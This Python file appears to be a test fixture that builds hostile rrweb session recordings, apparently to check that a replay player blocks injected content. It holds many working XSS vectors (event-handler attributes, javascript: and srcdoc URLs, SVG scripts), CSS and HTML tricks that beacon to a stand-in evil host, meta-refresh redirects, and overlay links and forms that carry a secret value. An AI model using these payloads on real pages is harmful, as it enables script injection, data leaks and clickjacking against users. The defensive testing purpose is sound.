"""Hostile recordings in rrweb's format: each vector calls the evil host under its own name, runs a script, or navigates."""

from __future__ import annotations

import itertools
from typing import Any

Node = dict[str, Any]
Event = dict[str, Any]

START_MS = 1_790_000_000_000
SHEET = "a" * 64  # the hash that it is known by; nobody looks at what it is made of any more
RAN = "(window.top||parent).postMessage('ran: {}','*')"


class Recording:
    """A page that is put together node by node; ids are given in order."""

    def __init__(self, evil: str) -> None:
        self.evil = evil
        self.ids = itertools.count(2)
        self.names = itertools.count(1)

    def url(self, ending: str = "png") -> str:
        """Return a new address at the evil host."""
        return f"{self.evil}/v{next(self.names)}.{ending}"

    def el(self, tag: str, attributes: dict[str, Any] | None = None, *children: Node | str, svg: bool = False) -> Node:
        """Make an element."""
        node = {"type": 2, "tagName": tag, "attributes": attributes or {}, "id": next(self.ids)}
        node["childNodes"] = [self.text(child, tag) if isinstance(child, str) else child for child in children]
        return node | ({"isSVG": True} if svg else {})

    def text(self, text: str, parent: str = "") -> Node:
        return {"type": 3, "textContent": text, "id": next(self.ids)} | ({"isStyle": True} if parent == "style" else {})


def scripts(r: Recording) -> list[Node]:
    """Return what would run a script."""
    el, ran = r.el, RAN.format
    return [
        el("script", {}, ran("inline")),
        el("SCRIPT", {"src": r.url("js")}),
        el("script", {"type": "module", "src": r.url("js")}),
        el("img", {"src": "x:", "onerror": ran("onerror")}),
        el("IMG", {"SRC": "x:", "ONERROR": ran("ONERROR")}),
        el("svg", {"onload": ran("svg onload")}, svg=True),
        el("svg", {}, el("script", {"href": r.url("js")}, svg=True), svg=True),
        el("svg", {}, el("animate", {"onbegin": ran("onbegin"), "attributeName": "x", "dur": "1s"}, svg=True), svg=True),
        el("details", {"open": "", "ontoggle": ran("ontoggle")}, el("summary", {}, "s")),
        el("input", {"autofocus": "", "onfocus": ran("onfocus")}),
        el("body", {"onload": ran("body onload"), "onpageshow": ran("pageshow")}),
        el("video", {"onerror": ran("video")}, el("source", {"src": "x:", "onerror": ran("source")})),
        el("marquee", {"onstart": ran("marquee")}, "m"),
        el("style", {"onload": ran("style onload"), "_cssText": "b{}"}),
        el("div", {"style": "animation: a 1ms", "onanimationend": ran("animationend")}),
        el("iframe", {"src": f"javascript:{ran('iframe javascript')}"}),
        el("iframe", {"srcdoc": f"<script>{ran('srcdoc')}</script>"}),
        el("object", {"data": f"javascript:{ran('object')}"}),
        el("embed", {"src": "data:text/html,<script>top.postMessage('ran: embed','*')</script>"}),
        el("math", {"href": f"javascript:{ran('math')}"}, "m"),
    ]


def loads(r: Recording) -> list[Node]:
    """Return what would send a request."""
    el, url = r.el, r.url
    return [
        el("img", {"src": url()}),
        el("img", {"srcset": f"{url()} 1x, {url()} 2x"}),
        el("img", {"src": url(), "loading": "lazy", "width": "9", "height": "9"}),
        el("picture", {}, el("source", {"srcset": url()}), el("img", {"src": url()})),
        el("video", {"src": url("mp4"), "poster": url(), "autoplay": "", "preload": "auto"}),
        el(
            "audio", {"src": url("mp3"), "preload": "auto"}, el("source", {"src": url("mp3")}), el("track", {"src": url("vtt")})
        ),
        el("input", {"type": "image", "src": url()}),
        el("iframe", {"src": url("html")}),
        el("frame", {"src": url("html")}),
        el("object", {"data": url("svg")}),
        el("embed", {"src": url("svg")}),
        el("table", {"background": url()}, el("td", {"background": url()}, "t")),
        el("body", {"background": url()}),
        el("link", {"rel": "stylesheet", "href": url("css")}),
        *(el("link", {"rel": rel, "href": url(), "as": "image"}) for rel in ("preload", "prefetch", "icon", "prerender")),
        *(el("link", {"rel": rel, "href": f"{r.evil}/"}) for rel in ("preconnect", "dns-prefetch")),
        el("link", {"rel": "modulepreload", "href": url("js")}),
        el("link", {"rel": "manifest", "href": url("json")}),
        el("svg", {}, el("image", {"href": url(), "xlink:href": url(), "width": "9", "height": "9"}, svg=True), svg=True),
        el("svg", {}, el("use", {"href": f"{url('svg')}#a"}, svg=True), svg=True),
        el("svg", {}, el("feImage", {"href": url()}, svg=True), svg=True),
        el("svg", {}, el("rect", {"width": "9", "height": "9", "fill": f"url({url('svg')}#a)"}, svg=True), svg=True),
        el("base", {"href": f"{r.evil}/base/"}),
        el("img", {"src": "relative-to-base.png"}),
        el("canvas", {"rr_dataURL": url()}),
        el("img", {"src": "data:,", "rr_dataURL": url()}),
        el("link", {"rel": "stylesheet", "href": "x", "_cssText": f"em {{ background: url({url()}) }}"}),
    ]


def styles(r: Recording) -> list[str]:
    """Return CSS that would send a request."""
    url = r.url
    return [
        f".e {{ background: url({url()}) }}",
        f'.e {{ background-image: url("{url()}"), linear-gradient(red, red) }}',
        f'.e {{ background: image-set("{url()}" 1x) }}',
        f'.e {{ background: -webkit-image-set(url("{url()}") 1x) }}',
        f".e {{ background: \\75rl({url()}) }}",
        f".e {{ background: \\000075 \\72 l({url()}) }}",
        f".e {{ background: u\\r\\l({url()}) }}",
        f".e::before {{ content: url({url()}) }}",
        f".e {{ list-style-image: url({url()}); display: list-item }}",
        f".e {{ border-image: url({url()}) 9; border: 9px solid }}",
        f".e {{ cursor: url({url()}), auto }}",
        f".e {{ mask-image: url({url()}) }}",
        f".e {{ filter: url({url('svg')}#f) }}",
        f".e {{ --u: url({url()}); background: var(--u) }}",
        f"@media screen {{ .e {{ shape-outside: url({url()}) }} }}",
        f"@import url({url('css')});",
        f'@import "{url("css")}" screen;',
        f"@font-face {{ font-family: evil; src: url({url('woff2')}) }} .e {{ font-family: evil }}",
        f'input[value^="s"] {{ background: url({url()}) }}',
    ]


def temptations(r: Recording) -> list[Node]:
    """Return what a viewer's click or key would set off: they cover the page."""
    cover = "position:fixed;inset:{}% 0 auto 0;height:24%;display:block;z-index:9"
    el = r.el
    return [
        el("a", {"href": r.url("html"), "target": "_top", "ping": r.url(), "style": cover.format(0)}, "link"),
        el("a", {"href": f"javascript:{RAN.format('link')}", "style": cover.format(25)}, "script link"),
        el(
            "form",
            {"action": r.url("html"), "target": "_top", "style": cover.format(50)},
            el("button", {"formaction": r.url("html"), "onclick": RAN.format("button"), "autofocus": ""}, "send"),
            el("input", {"value": "secret"}),
        ),
        el("a", {"href": r.url("html"), "download": "x", "style": cover.format(75)}, "download"),
        el("meta", {"http-equiv": "refresh", "content": f"0;url={r.url('html')}"}),
        el("meta", {"HTTP-EQUIV": "Refresh", "content": f"0;url=javascript:{RAN.format('refresh')}"}),
    ]


def kept(r: Recording) -> dict[str, Any]:
    """Return what the stage is told is kept: a stylesheet that calls the evil host, and places that are none."""
    here = (f"https://here.example/{name}.png" for name in "abc")
    places = [f"../../../{r.evil}", f"@{r.evil}/x", f"{r.evil}/x#{'b' * 64}"]
    return {
        "sheets": [[SHEET, "\n".join(styles(r))]],
        "places": [[url, place] for url, place in zip(here, places, strict=True)],
    }


def recording(evil: str) -> tuple[list[Event], dict[str, Any], int]:
    """Return a hostile recording that says everything thrice (snapshot, mutation, style rule), what is kept for it by hash, and
    its number of vectors.
    """
    r = Recording(evil)
    assets = kept(r)
    by_hash = r.el("style", {"_cssText": f"playhead-asset:{SHEET}"})
    placed = [r.el("img", {"src": url}) for url, _ in assets["places"]]
    style = r.el("style", {}, "\n".join(styles(r)))
    attached = r.el("style", {"_cssText": "\n".join(styles(r))})
    empty_style = r.el("style", {}, ".x {}")
    targets = [r.el(tag, {}) for tag in ("img", "iframe", "link", "script", "div")]
    first = [
        *scripts(r),
        *loads(r),
        *placed,
        *(r.el("i", {"style": css[4:-1]}, "i") for css in styles(r) if css.startswith(".e {")),
    ]
    body = r.el("body", {"class": "e"}, *first, *targets, *temptations(r))
    head = r.el("head", {}, style, attached, by_hash, empty_style)
    page = {"type": 0, "id": 1, "childNodes": [r.el("html", {}, head, body)]}
    later = [*scripts(r), *loads(r), *temptations(r)]
    adds = [{"parentId": body["id"], "nextId": None, "node": node} for top in later for node in _apart(top, body["id"])]
    for add in adds:
        add["parentId"] = add["node"].pop("parentId", body["id"])
    image, frame, link, script, box = (target["id"] for target in targets)
    attributes = [
        {"id": image, "attributes": {"src": r.url(), "srcset": r.url(), "onerror": RAN.format("mutated onerror")}},
        {
            "id": frame,
            "attributes": {"src": r.url("html"), "srcdoc": f"<script>{RAN.format('mutated')}</script>", "sandbox": None},
        },
        {"id": link, "attributes": {"rel": "stylesheet", "href": r.url("css")}},
        {"id": script, "attributes": {"src": r.url("js")}},
        {"id": box, "attributes": {"style": {"background-image": f"url({r.url()})"}, "onclick": RAN.format("mutated onclick")}},
    ]
    texts = [{"id": style["childNodes"][0]["id"], "value": "\n".join(styles(r))}]
    rules = [{"rule": css, "index": 0} for css in styles(r)]
    adopted = [{"styleId": 1, "rules": [{"rule": css} for css in styles(r)]}]
    font = {"source": 10, "family": "evil", "fontSource": f"url({r.url('woff2')})", "buffer": False}
    data: list[Event] = [
        {"source": 0, "adds": adds, "removes": [], "texts": [], "attributes": []},
        {"source": 0, "adds": [], "removes": [], "texts": texts, "attributes": attributes},
        {"source": 8, "id": empty_style["id"], "adds": rules},
        {"source": 13, "id": empty_style["id"], "index": [0], "set": {"property": "background", "value": f"url({r.url()})"}},
        {"source": 15, "id": 1, "styleIds": [1], "styles": adopted},
        font,
    ]
    events: list[Event] = [
        {"type": 4, "timestamp": START_MS, "data": {"href": evil, "width": 800, "height": 600}},
        {"type": 2, "timestamp": START_MS + 1, "data": {"node": page, "initialOffset": {"left": 0, "top": 0}}},
        *({"type": 3, "timestamp": START_MS + 10 + at, "data": each} for at, each in enumerate(data)),
    ]
    said = len(scripts(r)) * 2 + len(loads(r)) * 2 + len(temptations(r)) * 2
    said += len(styles(r)) + len(placed)
    return events, assets, said + len(styles(r)) * 5 + sum(css.startswith(".e {") for css in styles(r)) + len(attributes) + 2


def _apart(node: Node, parent: int) -> list[Node]:
    """Split a tree into nodes that are added one by one, as rrweb's mutations say them."""
    children = node["childNodes"]
    alone = node | {"childNodes": [], "parentId": parent}
    return [alone, *(part for child in children for part in _apart({"childNodes": []} | child, node["id"]))]
